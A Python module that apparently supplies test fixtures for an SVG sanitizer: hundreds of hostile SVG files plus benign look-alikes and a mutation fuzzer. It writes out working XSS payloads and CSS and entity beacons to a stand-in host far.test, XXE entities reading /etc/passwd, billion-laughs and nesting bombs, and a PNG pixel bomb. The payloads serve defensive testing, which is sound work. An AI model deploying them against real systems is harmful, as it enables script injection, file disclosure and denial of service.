"""SVG files that nobody should publish, but somebody tries to.

`HOSTILE`: name and bytes of each. Every one tries to run something, or to ask `FAR`, when it is
opened at its own address, clicked, or read by a tool; or it takes time, memory or the stack.
`HARMLESS` are files that only look so. `mutants` makes others from both.
"""

from __future__ import annotations

import base64
import gzip
import random
import struct
import zlib
from collections.abc import Iterator

FAR = "http://far.test"
"""The address that the files ask."""
JS = f"new Image().src='{FAR}/ran'"
"""What they run."""
_XMLNS = 'xmlns="http://www.w3.org/2000/svg"'
_ROOT = (
    f'<svg {_XMLNS} xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events" '
    'xmlns:m="http://www.w3.org/1998/Math/MathML" viewBox="0 0 100 100">'
)
_RECT = '<rect width="100" height="100" fill="red"/>'
_SVG_URI = (
    "data:image/svg+xml;base64,"
    + base64.b64encode(
        f'<svg {_XMLNS} id="x"><script>{JS}</script><image href="{FAR}/i.png"/></svg>'.encode()
    ).decode()
)
_HTML_URI = "data:text/html;base64," + base64.b64encode(f"<script>{JS}</script>".encode()).decode()
_JS_ESCAPED = "".join(f"&#{ord(character)};" for character in f"javascript:{JS}")

_INSIDE = {
    # scripts
    "script": f"<script>{JS}</script>",
    "script in CDATA": f"<script><![CDATA[{JS}]]></script>",
    "script of a type": f'<script type="module">{JS}</script>',
    "script from afar": f'<script href="{FAR}/x.js"/>',
    "script from afar, xlink": f'<script xlink:href="{FAR}/x.js"/>',
    "script from data": f'<script href="data:text/javascript,{JS}"/>',
    "script with a prefix": f'<s:script xmlns:s="http://www.w3.org/2000/svg">{JS}</s:script>',
    "script in metadata": f"<metadata><script>{JS}</script></metadata>",
    "script in a title": f"<title><script>{JS}</script></title>",
    "script in a style": f"<style>a{{}}<script>{JS}</script></style>",
    "script in the notes of an editor": '<i:grid xmlns:i="http://www.inkscape.org/namespaces/'
    f'inkscape"><script>{JS}</script></i:grid>',
    "script in a switch": f"<switch><script>{JS}</script></switch>",
    "handler script": f'<handler ev:event="load">{JS}</handler>',
    "listener": f'<ev:listener event="click" handler="#h"/><g id="h">{_RECT}</g>',
    # other namespaces
    "XHTML script": f"<h:script>{JS}</h:script>",
    "XHTML script from afar": f'<h:script src="{FAR}/x.js"/>',
    "XHTML script by default namespace": f'<script xmlns="http://www.w3.org/1999/xhtml">{JS}'
    "</script>",
    "XHTML script in metadata": f"<metadata><h:script>{JS}</h:script></metadata>",
    "XHTML frame": f'<h:iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"/>',
    "XHTML frame from afar": f'<h:iframe src="{FAR}/f"/>',
    "XHTML frame of a script": f'<h:iframe src="javascript:{JS}"/>',
    "XHTML picture": f'<h:img src="{FAR}/i.png"/>',
    "XHTML picture with an error": f'<h:img src="x:" onerror="{JS}"/>',
    "XHTML picture of several": f'<h:img srcset="{FAR}/i.png 1x"/>',
    "XHTML link": f'<h:link rel="stylesheet" href="{FAR}/x.css"/>',
    "XHTML prefetch": f'<h:link rel="prefetch" href="{FAR}/p"/>',
    "XHTML preconnect": f'<h:link rel="preconnect" href="{FAR}"/>',
    "XHTML icon": f'<h:link rel="icon" href="{FAR}/i.png"/>',
    "XHTML redirect": f'<h:meta http-equiv="refresh" content="0;url={FAR}/r"/>',
    "XHTML base": f'<h:base href="{FAR}/"/><image href="i.png" width="9" height="9"/>',
    "XHTML object": f'<h:object data="{FAR}/o"/>',
    "XHTML object of HTML": f'<h:object data="{_HTML_URI}"/>',
    "XHTML embed": f'<h:embed src="{_SVG_URI}"/>',
    "XHTML video": f'<h:video src="{FAR}/v.webm" autoplay=""/>',
    "XHTML audio": f'<h:audio src="{FAR}/a.ogg" onerror="{JS}"/>',
    "XHTML style": f'<h:style>@import "{FAR}/x.css";</h:style>',
    "XHTML form": f'<h:form action="{FAR}/f"><h:button autofocus="" onfocus="{JS}">b</h:button>'
    "</h:form>",
    "XHTML body": f'<h:body onload="{JS}"/>',
    "XHTML details": f'<h:details open="" ontoggle="{JS}">x</h:details>',
    "XHTML template": f'<h:template shadowrootmode="open"><h:img src="{FAR}/i.png"/></h:template>',
    "MathML link": f'<m:math href="javascript:{JS}"><m:mi>x</m:mi></m:math>',
    "MathML handler": f'<m:math onclick="{JS}"><m:mi>x</m:mi></m:math>',
    "XSLT": '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    "XInclude": f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{FAR}/x"/>',
    "a namespace of one's own": '<x:y xmlns:x="urn:x"/>',
    "an attribute of a namespace": '<g xmlns:x="urn:x" x:href="y"/>',
    "no namespace, inside": f'<g xmlns=""><script>{JS}</script></g>',
    "an attribute that a note may have": '<i:g xmlns:i="http://www.inkscape.org/namespaces/'
    f'inkscape" attributeName="href"/><a href="#" attributeName="href">{_RECT}</a>',
    "a namespace that looks like SVG": f'<script xmlns="http://www.w3.org/2000/svg ">{JS}</script>',
    "a namespace that ends in a brace": f'<x:g xmlns:x="http://www.w3.org/1999/xhtml}}">{JS}</x:g>',
    # foreign content
    "foreignObject": f"<foreignObject><h:script>{JS}</h:script></foreignObject>",
    "foreignObject of SVG": "<foreignObject><svg/></foreignObject>",
    "foreignObject with a frame": "<foreignObject width='99' height='99'>"
    f'<h:iframe src="{FAR}/f"/></foreignObject>',
    "iframe of SVG": f'<iframe src="{FAR}/f"/>',
    "SVG video": f'<video href="{FAR}/v"/>',
    "SVG audio": f'<audio href="{FAR}/v"/>',
    # handlers
    "onload": f'<g onload="{JS}"/>',
    "onload in capitals": f'<g ONLOAD="{JS}"/>',
    "onclick": f'<rect width="100" height="100" onclick="{JS}"/>',
    "onfocusin": f'<a href="#x" onfocusin="{JS}">{_RECT}</a>',
    "onfocus": f'<g tabindex="0" autofocus="" onfocus="{JS}">{_RECT}</g>',
    "onmouseover": f'<rect width="100" height="100" onmouseover="{JS}"/>',
    "onbegin": f'<animate attributeName="x" dur="1s" onbegin="{JS}"/>',
    "onend": f'<set attributeName="x" to="1" dur="1ms" onend="{JS}"/>',
    "onerror of a picture": f'<image href="data:image/png;base64,AAAA" onerror="{JS}"/>',
    "onload of a style": f'<style onload="{JS}">a{{}}</style>',
    "onanimationstart": "<style>@keyframes a{from{opacity:0}}g{animation:a 1s}</style>"
    f'<g onanimationstart="{JS}">{_RECT}</g>',
    "ontransitionend": f'<g ontransitionend="{JS}"/>',
    "onpointerrawupdate": f'<g onpointerrawupdate="{JS}">{_RECT}</g>',
    "a handler on what an editor notes": '<i:g xmlns:i="http://www.inkscape.org/namespaces/'
    f'inkscape" onclick="{JS}">{_RECT}</i:g>',
    "a handler by XML events": f'<g ev:event="click" ev:handler="javascript:{JS}"/>',
    # animation
    "animate of a link": f'<a href="#x"><animate attributeName="href" values="javascript:{JS}"/>'
    f"{_RECT}</a>",
    "animate of a link, xlink": '<a xlink:href="#x"><animate attributeName="xlink:href" '
    f'values="javascript:{JS}"/>{_RECT}</a>',
    "set of a link": f'<a href="#x"><set attributeName="href" to="javascript:{JS}"/>{_RECT}</a>',
    "set of a link elsewhere": f'<a id="l" href="#x">{_RECT}</a>'
    f'<set href="#l" attributeName="href" to="javascript:{JS}"/>',
    "set of a handler": f'<rect width="100" height="100"><set attributeName="onclick" to="{JS}"/>'
    "</rect>",
    "animate of a picture": '<image href="#x" width="9" height="9"><animate attributeName="href" '
    f'values="{FAR}/i.png"/></image>',
    "animate of a fill": f'<g><animate attributeName="fill" values="url({FAR}/x.svg#x)"/></g>',
    "animateMotion": f'<animateMotion path="M0 0" onbegin="{JS}"/>',
    "animateTransform": '<animateTransform attributeName="transform" type="rotate" to="9"/>',
    "discard": '<discard begin="1s"/>',
    "mpath from afar": f'<animateMotion><mpath href="{FAR}/x.svg#p"/></animateMotion>',
    # links
    "a link of a script": f'<a href="javascript:{JS}">{_RECT}</a>',
    "a link of a script, xlink": f'<a xlink:href="javascript:{JS}">{_RECT}</a>',
    "a link of a script, capitals": f'<a href="JaVaScRiPt:{JS}">{_RECT}</a>',
    "a link of a script, blanks": f'<a href="  javascript:{JS}">{_RECT}</a>',
    "a link of a script, tab": f'<a href="java&#9;script:{JS}">{_RECT}</a>',
    "a link of a script, newline": f'<a href="java&#10;script:{JS}">{_RECT}</a>',
    "a link of a script, references": f'<a href="{_JS_ESCAPED}">{_RECT}</a>',
    "a link of a script, control": f'<a href="&#x1F;javascript:{JS}">{_RECT}</a>',
    "a link of a script, soft hyphen": f'<a href="&#xAD;javascript:{JS}">{_RECT}</a>',
    "a link with a fragment after a blank": f'<a href=" #javascript:{JS}">{_RECT}</a>',
    "a link of data": f'<a href="{_HTML_URI}">{_RECT}</a>',
    "a link of vbscript": f'<a href="vbscript:x">{_RECT}</a>',
    "a link elsewhere": f'<a href="{FAR}/a">{_RECT}</a>',
    "a link without a scheme": f'<a href="//far.test/a">{_RECT}</a>',
    "a link beside": f'<a href="other.svg">{_RECT}</a>',
    "a link that pings": f'<a href="#x" ping="{FAR}/p">{_RECT}</a>',
    "a link to download": f'<a href="#x" download="x.html">{_RECT}</a>',
    "an empty link": f'<a href="">{_RECT}</a>',
    "xml:base": f'<g xml:base="{FAR}/"><use href="#x"/><image href="i.png"/></g>',
    # pictures and references
    "image from afar": f'<image href="{FAR}/i.png" width="9" height="9"/>',
    "image from afar, xlink": f'<image xlink:href="{FAR}/i.png" width="9" height="9"/>',
    "image with both links": f'<image href="#x" xlink:href="{FAR}/i.png" width="9" height="9"/>',
    "image beside": '<image href="i.png" width="9" height="9"/>',
    "image of SVG": f'<image href="{_SVG_URI}" width="9" height="9"/>',
    "image of SVG as PNG": f'<image href="{_SVG_URI.replace("svg+xml", "png")}" width="9"/>',
    "image of SVG in text": f'<image href="data:image/svg+xml,&lt;svg {_XMLNS.replace(chr(34), "")}'
    '&gt;" width="9"/>',
    "image of a type with parameters": '<image href="data:image/png,image/svg+xml;base64,AA"/>',
    "image of HTML": f'<image href="{_HTML_URI}" width="9" height="9"/>',
    "image with srcset": f'<image href="#x" srcset="{FAR}/i.png 1x"/>',
    "use from afar": f'<use href="{FAR}/x.svg#x"/>',
    "use beside": '<use href="other.svg#x"/>',
    "use of data": f'<use href="{_SVG_URI}#x"/>',
    "use of a blob": '<use href="blob:null/x"/>',
    "feImage": f'<filter id="f"><feImage href="{FAR}/i.png"/></filter><g filter="url(#f)">{_RECT}'
    "</g>",
    "cursor element": f'<cursor id="c" href="{FAR}/c.png"/>',
    "tref": f'<text><tref href="{FAR}/x.svg#t"/></text>',
    "font-face-uri": f'<font-face><font-face-src><font-face-uri href="{FAR}/f.svg"/>'
    "</font-face-src></font-face>",
    "color-profile": f'<color-profile name="p" href="{FAR}/p.icc"/>',
    "linearGradient from afar": f'<linearGradient id="g" href="{FAR}/x.svg#g"/>',
    "pattern from afar": f'<pattern id="p" xlink:href="{FAR}/x.svg#p"/>',
    "textPath from afar": f'<text><textPath href="{FAR}/x.svg#p">t</textPath></text>',
    "fill from afar": f'<rect width="9" height="9" fill="url({FAR}/x.svg#x)"/>',
    "mask from afar": f'<rect width="9" height="9" mask="url(\'{FAR}/x.svg#m\')"/>',
    "clip-path from afar": f'<g clip-path="url( {FAR}/x.svg#c )">{_RECT}</g>',
    "filter from afar": f'<g filter="url({FAR}/x.svg#f)">{_RECT}</g>',
    "filter of data": f'<g filter="url({_SVG_URI}#x)">{_RECT}</g>',
    "marker from afar": f'<path d="M0 0H9" marker-end="url({FAR}/x.svg#m)"/>',
    "cursor from afar": f'<rect width="100" height="100" cursor="url({FAR}/c.png),auto"/>',
    "a reference that is decoded": f'<g fill="u&#114;l({FAR}/x.svg#x)">{_RECT}</g>',
    # CSS
    **{
        f"style: {css}": f'<g style="{css}">{_RECT}</g>'.replace("FAR", FAR)
        for css in (
            "background:url(FAR/i.png)",
            "fill:url(FAR/x.svg#x)",
            "fill:URL('FAR/x.svg#x')",
            "fill:u\\72l(FAR/x.svg#x)",
            "fill:\\75 rl(FAR/x.svg#x)",
            "fill:\\000075\\000072\\00006c(FAR/x.svg#x)",
            "fill:u\\rl(FAR/x.svg#x)",
            "fill:u/**/rl(FAR/x.svg#x)",
            "fill:url(/**/FAR/x.svg#x)",
            "fill:url(#x FAR/x.svg#x)",
            "fill:url(#a),url(FAR/x.svg#x)",
            "fill:url(\\68ttp://far.test/x.svg#x)",
            "fill:url(other.svg#x)",
            "mask-image:url(FAR/i.png)",
            "mask:image-set('FAR/i.png' 1x)",
            "background-image:image-set('FAR/i.png' 1x)",
            "background-image:-webkit-image-set(url(FAR/i.png) 1x)",
            "background-image:im\\61ge-set('FAR/i.png' 1x)",
            "background-image:cross-fade(url(FAR/i.png),url(FAR/j.png),50%)",
            "background-image:image('FAR/i.png')",
            "background-image:src('FAR/i.png')",
            "background-image:element(#x)",
            "background-image:paint(x)",
            "background-image:url(data:image/svg+xml,x)",
            "--u:url(FAR/i.png);background:var(--u)",
            "--u:FAR/i.png;background:var(--u)",
            "list-style-image:url(FAR/i.png)",
            "border-image:url(FAR/i.png)",
            "content:url(FAR/i.png)",
            "cursor:url(FAR/c.png),auto",
            "shape-outside:url(FAR/i.png)",
            "offset-path:url(FAR/x.svg#p)",
            "-webkit-mask-box-image:url(FAR/i.png)",
            "-moz-binding:url(FAR/x.xml#b)",
            "behavior:url(FAR/x.htc)",
            "width:expression(alert(1))",
            "width:ex/**/pression(alert(1))",
            "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=FAR/i.png)",
            "fill:red;}a{fill:url(FAR/x.svg#x)",
            "fill:'a\\' b 'url(FAR/x.svg#x)",
            "fill:'&#10;;background:url(FAR/i.png);'",
            "fill:red/*;x:*/;background:url(FAR/i.png)/**/",
            "background:attr(data-x type(*))",
            "src:url(data:font/woff2;base64,AAAA);background:url(FAR/i.png)",
            "fill:url(#a\\29;background:url(FAR/i.png)",
            "fill:&#117;&#114;&#108;(FAR/x.svg#x)",
            "&#102;ill:url(FAR/x.svg#x)",
            "fill: url( '#x' );stroke:url(&quot;FAR/x.svg#x&quot;)",
        )
    },
    **{
        f"sheet: {css}": f"<style>{css}</style>{_RECT}".replace("FAR", FAR)
        for css in (
            "@import 'FAR/x.css';",
            "@import url(FAR/x.css);",
            "@\\69mport 'FAR/x.css';",
            "@\\69m\\'FAR/x.css';",  # a search in Python 3.11 ended in SystemError
            "@IMPORT 'FAR/x.css';",
            "/**/@import 'FAR/x.css'",
            "@charset 'utf-8';@import 'FAR/x.css';",
            "&#64;import 'FAR/x.css';",
            "<![CDATA[@import 'FAR/x.css';]]>",
            "@imp<!-- x -->ort 'FAR/x.css';",
            "@layer a;@import 'FAR/x.css';",
            "@namespace x url(FAR/x);",
            "@font-face{font-family:a;src:url(FAR/f.woff2)}text{font-family:a}",
            "@font-face{font-family:a;src:local('x'),url('FAR/f.woff2')}text{font-family:a}",
            "@font-face{src:url(data:font/woff2;base64,AA),url(FAR/f.woff2)}",
            "@font-face{font-family:a;src:url(data:image/svg+xml;base64,AA)}",
            "@document url(FAR){}",
            "@property --x{syntax:'*';inherits:false;initial-value:url(FAR/i.png)}",
            "@counter-style x{system:cyclic;symbols:url(FAR/i.png)}",
            "@media all{rect{fill:url(FAR/x.svg#x)}}",
            "@media all{@import 'FAR/x.css';}",
            "@supports (background:url(FAR/i.png)){rect{background:url(FAR/i.png)}}",
            "@keyframes a{from{fill:url(FAR/x.svg#x)}}rect{animation:a 1s}",
            "rect{fill:red;&amp;{fill:url(FAR/x.svg#x)}}",
            "rect{g{fill:red}}",
            "rect{fill:url(FAR/x.svg#x)",
            "rect{background:image-set('FAR/i.png' 1x)}",
            "rect[x='}'] {background:url(FAR/i.png)}",
            "rect{fill:red}/*}*/svg{background:url(FAR/i.png)}",
            "rect{fill:( } svg{background:url(FAR/i.png) } )}",
            "&lt;!-- svg{background:url(FAR/i.png)} --&gt;",
            "svg::before{content:url(FAR/i.png)}",
            "rect:hover{cursor:url(FAR/c.png),auto}",
            "\ufeff@import 'FAR/x.css';",
            "@\x85import 'FAR/x.css';",
        )
    },
}
"""What stands in the root element."""


def _file(inside: str) -> bytes:
    return f"{_ROOT}{inside}</svg>".encode()


_TEXT = _file(f"<script>{JS}</script>").decode()
_DOCTYPE = "<!DOCTYPE svg [{}]>"
_BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
_HANDLER = f"<!ATTLIST svg onload CDATA '{JS.replace(chr(39), chr(34))}'>"
_LINKED = '<image href="&u;" width="9" height="9"/>'
_PI = "<?xml-stylesheet {}?>" + _file(_RECT).decode()


def _nested(count: int, inside: str = "") -> bytes:
    return _file("<g>" * count + inside + "</g>" * count)


def _pixel_bomb(side: int) -> bytes:
    """A PNG of very many pixels in few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1 << 20), 9)
    parts = chunk(b"IHDR", header), chunk(b"IDAT", rows), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


_FILES: dict[str, bytes] = {
    # the prologue
    "stylesheet from afar": _PI.format(f'href="{FAR}/x.css" type="text/css"').encode(),
    "stylesheet of XSLT": _PI.format(f'href="{FAR}/x.xsl" type="text/xsl"').encode(),
    "stylesheet of data": _PI.format("href='data:text/css,a{}'").encode(),
    "stylesheet after the root": _file(_RECT) + b"<?xml-stylesheet href='x.css'?>",
    "instruction": _PI.replace("xml-stylesheet", "php").format("echo 1;").encode(),
    "entity": (_DOCTYPE.format(f'<!ENTITY u "{FAR}/i.png">') + _ROOT + _LINKED + "</svg>").encode(),
    "entity of markup": (
        _DOCTYPE.format(f'<!ENTITY s "<script>{JS.replace(chr(34), "")}</script>">')
        + f"{_ROOT}&s;</svg>"
    ).encode(),
    "entity from afar": (
        _DOCTYPE.format(f'<!ENTITY s SYSTEM "{FAR}/e">') + f"{_ROOT}&s;</svg>"
    ).encode(),
    "entity of a file": (
        _DOCTYPE.format('<!ENTITY s SYSTEM "file:///etc/passwd">')
        + f"{_ROOT}<text>&s;</text></svg>"
    ).encode(),
    "parameter entity": (
        _DOCTYPE.format(f'<!ENTITY % p SYSTEM "{FAR}/e">%p;') + _ROOT + "</svg>"
    ).encode(),
    "billion laughs": (
        _DOCTYPE.format(f'<!ENTITY e0 "ha">{_BOMB}') + f"{_ROOT}<text>&e11;</text></svg>"
    ).encode(),
    "quadratic blowup": (
        _DOCTYPE.format(f'<!ENTITY a "{"a" * 50_000}">') + f"{_ROOT}{'&a;' * 50_000}</svg>"
    ).encode(),
    "default attribute": (_DOCTYPE.format(_HANDLER) + _file(_RECT).decode()).encode(),
    "default link": (
        _DOCTYPE.format(f'<!ATTLIST image href CDATA "{FAR}/i.png">')
        + f'{_ROOT}<image width="9" height="9"/></svg>'
    ).encode(),
    "document type from afar": f'<!DOCTYPE svg SYSTEM "{FAR}/x.dtd">'.encode() + _file(_RECT),
    "document type of HTML": b"<!DOCTYPE html>" + _file(_RECT),
    "document type of XHTML": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
    b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">' + _file("<text>&nbsp;</text>"),
    "an entity that is not declared": b'<!DOCTYPE svg SYSTEM "http://www.w3.org/x">'
    + _file("<text>&x;</text>"),
    # the root
    "HTML": f"<html><script>{JS}</script></html>".encode(),
    "XHTML": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html>'.encode(),
    "no namespace": f"<svg><script>{JS}</script></svg>".encode(),
    "a handler of the root": f'<svg {_XMLNS} onload="{JS}"/>'.encode(),
    "a handler of the root, SVGLoad": f'<svg {_XMLNS} onsvgload="{JS}"/>'.encode(),
    "two roots": _file(_RECT) * 2,
    "HTML before the root": f"<script>{JS}</script>".encode() + _file(_RECT),
    "HTML behind the root": _file(_RECT) + f"<script>{JS}</script>".encode(),
    "HTML in a comment": f"<!-- --!><script>{JS}</script> -->".encode() + _file(_RECT),
    "XSLT as the root": b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
    "Atom as the root": b'<feed xmlns="http://www.w3.org/2005/Atom"/>',
    # encodings
    "UTF-16 with a mark": _TEXT.encode("utf-16"),
    "UTF-16, big end first": b"\xfe\xff" + _TEXT.encode("utf-16-be"),
    "UTF-16 without a mark": _TEXT.encode("utf-16-le"),
    "UTF-16, declared": (f'<?xml version="1.0" encoding="utf-16"?>{_TEXT}').encode(),
    "UTF-32": _TEXT.encode("utf-32"),
    "UTF-7, declared": b'<?xml version="1.0" encoding="utf-7"?>'
    + _file("+ADw-script+AD4-x+ADw-/script+AD4-"),
    "EBCDIC": ('<?xml version="1.0" encoding="cp037"?>' + _TEXT).encode("cp037"),
    "ISO-2022-JP": b'<?xml version="1.0" encoding="iso-2022-jp"?>'
    + _file("<text>\x1b$B</text><script>x</script>\x1b(B</text>"),
    "Shift_JIS": b'<?xml version="1.0" encoding="shift_jis"?>'
    + _ROOT.encode()
    + b'<g class="\x83"/><g id="\x83\x22 onload="x"/></svg>',
    "Latin-1": b'<?xml version="1.0" encoding="latin-1"?>' + _file("<text>é</text>"),
    "an unknown encoding": b'<?xml version="1.0" encoding="x-none"?>' + _file(_RECT),
    "an encoding of Python's": b'<?xml version="1.0" encoding="rot13"?>' + _file(_RECT),
    "not UTF-8": _file("<text>é</text>").replace(b"\xc3", b""),
    "overlong UTF-8": _file("<text>X</text>").replace(b"X", b"\xc0\xbcscript\xc0\xbe"),
    "surrogates in UTF-8": _file("<text>X</text>").replace(b"X", b"\xed\xa0\x80"),
    "NUL": _file("<g\0/>"),
    "NUL before the root": b"\0" + _file(_RECT),
    "NUL behind the root": _file(_RECT) + b"\0",
    "NUL as a reference": _file("<text>&#0;</text>"),
    "compressed": gzip.compress(_TEXT.encode()),
    "a mark twice": b"\xef\xbb\xbf" * 2 + _TEXT.encode(),
    # shape
    "empty": b"",
    "blanks": b" \n" * 1000,
    "cut": _file(_RECT)[:-3],
    "1,000 inside each other": _nested(1_000),
    "100,000 inside each other": _nested(100_000),
    "500,000 inside each other": _nested(500_000, _RECT),
    "100,000 that are never closed": _file("<g>" * 100_000),
    "elements of namespaces inside each other": _file(
        '<s:g xmlns:s="http://www.w3.org/2000/svg">' * 10_000
    ),
    "200,000 elements": _file("<g/>" * 200_000),
    "200,000 attributes": _file("<g " + " ".join(f'a{n}=""' for n in range(200_000)) + "/>"),
    "100,000 namespaces": _file(
        "<g " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(100_000)) + "/>"
    ),
    "an attribute of 5 MB": _file(f'<path d="{"M0 0" * 1_250_000}"/>'),
    "a name of 3 MB": _file(f"<{'g' * 3_000_000}/>"),
    "a text of 5 MB": _file("x" * 5_000_000),
    "repeated tenfold ten times": _file(
        "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 11))
        + f'<g id="a0">{_RECT}</g><use href="#a10"/>'
    ),
    "repeated by patterns": _file(
        "".join(
            f'<pattern id="a{n}" width="1" height="1">'
            + f'<rect width="9" height="9" fill="url(#a{n - 1})"/>' * 10
            + "</pattern>"
            for n in range(1, 11)
        )
        + '<rect width="99" height="99" fill="url(#a10)"/>'
    ),
    "repeated by masks": _file(
        "".join(
            f'<mask id="a{n}">' + f'<g style="mask: url(#a{n - 1})">{_RECT}</g>' * 10 + "</mask>"
            for n in range(1, 11)
        )
        + f'<g mask="url(#a10)">{_RECT}</g>'
    ),
    "repeated in itself": _file('<g id="a"><use href="#a"/></g>'),
    "repeated in each other": _file('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "a chain of 20,000": _file(
        "".join(f'<g id="a{n}"><use href="#a{n + 1}"/></g>' for n in range(20_000))
    ),
    "a chain of 20,000 from its end": _file(
        '<g id="a0"/>'
        + "".join(f'<g id="a{n}"><use href="#a{n - 1}"/></g>' for n in range(1, 20_000))
    ),
    "CSS of 1,000,000 brackets": _file(f'<g style="fill:{"(" * 1_000_000}"/>'),
    "CSS of 1,000,000 braces": _file(f"<style>{'{' * 1_000_000}</style>"),
    "CSS of 300,000 escapes": _file(
        f'<g style="fill:{chr(92) + "41414141"}"/>'.replace(
            chr(92) + "41414141", (chr(92) + "4141 ") * 300_000
        )
    ),
    "CSS of a comment that never ends": _file(f"<style>{'/*' * 1_000_000}</style>"),
    "CSS of a string that never ends": _file(f"<style>{chr(39) + 'a' * 2_000_000}</style>"),
    "CSS of 1,000,000 ids": _file(f"<style>{'#a' * 1_000_000}</style>"),
    # other formats under this name
    "PNG": _pixel_bomb(10),
    "PDF": b"%PDF-1.7\n" + _file(_RECT),
    "GIF and JavaScript": b"GIF89a/*" + _file(_RECT) + b"*/=1;",
    "ZIP": b"PK\x03\x04" + _file(_RECT),
    "MHTML": b"Content-Type: multipart/related\r\n\r\n" + _file(_RECT),
}

HOSTILE: tuple[tuple[str, bytes], ...] = (
    *((name, _file(inside)) for name, inside in _INSIDE.items()),
    *_FILES.items(),
)
"""Name and bytes of each file."""

# --- what looks like an attack and is none

_HARMLESS = {
    "a fragment": f'<a href="#x">{_RECT}</a><g id="x"/>',
    "words": f"<text>javascript:{JS} &lt;script&gt; url({FAR}) @import</text>",
    "a comment": f"<!-- <script>{JS}</script> <?xml-stylesheet?> -->{_RECT}",
    "pixels": '<image width="9" height="9" href="data:image/png;base64,iVBORw0KGgo="/>',
    "pixels that are a drawing": '<image width="9" height="9" href="data:image/png;base64,'
    + base64.b64encode(_TEXT.encode()).decode()
    + '"/>',
    "a string with an address": f"<style>text{{font-family:'{FAR}'}}</style><text>x</text>",
    "an escaped name": '<g style="f\\69ll:r\\65 d">' + _RECT + "</g>",
    "a font in the file": "<style>@font-face{font-family:a;src:url(data:font/woff2;base64,AAAA)"
    " format('woff2')}text{font-family:a}</style><text>x</text>",
    "a style for dark screens": "<style>@media (prefers-color-scheme: dark) {rect {fill: "
    "#fff !important}}</style>" + _RECT,
    "a reference in quotes": f'<g fill="url(\'#g\')" clip-path="url( &quot;#c&quot; )">{_RECT}'
    "</g><linearGradient id='g'/><clipPath id='c'/>",
    "an unknown language": '<switch><g systemLanguage="xx"/><g/></switch>',
    "attributes of data": f'<g data-onload="{JS}" data-href="javascript:x">{_RECT}</g>',
    "a property of one's own": '<g style="--a: red; fill: var(--a, blue)">' + _RECT + "</g>",
}
HARMLESS: tuple[tuple[str, bytes], ...] = tuple(
    (name, _file(inside)) for name, inside in _HARMLESS.items()
)

# --- others like these

_SPICES = (
    *(
        "\\",
        "\\72 ",
        "\\0",
        "/**/",
        "/*",
        "*/",
        ";",
        "{",
        "}",
        "(",
        ")",
        "'",
        '"',
        "&quot;",
        "#",
        "@",
    ),
    *(
        "&#9;",
        "&#10;",
        "&#x1f;",
        "&#0;",
        "&#xfeff;",
        "&#x212a;",
        "\xa0",
        "\u200b",
        "\ufeff",
        " ",
        ":",
    ),
    *("<!-- -->", "<![CDATA[", "]]>", "<", ">", "</", "/>", "<?x?>", "&x;", "<g>", "</g>", "<h:g>"),
    *(
        "url(",
        "url(#x)",
        f"url({FAR}/x)",
        f"'{FAR}/x'",
        FAR,
        "javascript:",
        "data:image/png;base64,",
    ),
    *(
        ' href="',
        ' xlink:href="#',
        ' style="',
        f' onload="{JS}"',
        " on",
        "h:",
        "xlink:",
        "@import ",
    ),
    *("image-set(", "var(--x)", "--x:", "!important", "@media all{", "@font-face{src:", "src:"),
)


def mutants(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """Files made from the others by a few random edits, with their names."""
    chance = random.Random(seed)
    sources = {**_INSIDE, **_HARMLESS}
    for number in range(count):
        name = chance.choice(list(sources))
        text = sources[name] + (
            chance.choice(list(sources.values())) if chance.random() < 0.3 else ""
        )
        for _ in range(chance.randint(1, 3)):
            at = chance.randrange(len(text) + 1)
            end = at + chance.choice((0, 0, 0, 1, 3, 8))
            kind = chance.random()
            piece = chance.choice(_SPICES)
            if kind < 0.2:
                piece = text[at : at + chance.randint(1, 12)].swapcase()
            elif kind < 0.4:
                piece = "".join(f"&#{ord(character)};" for character in text[at:end])
            text = text[:at] + piece + text[end:]
        yield f"{name}, mutant {number}", _file(text)
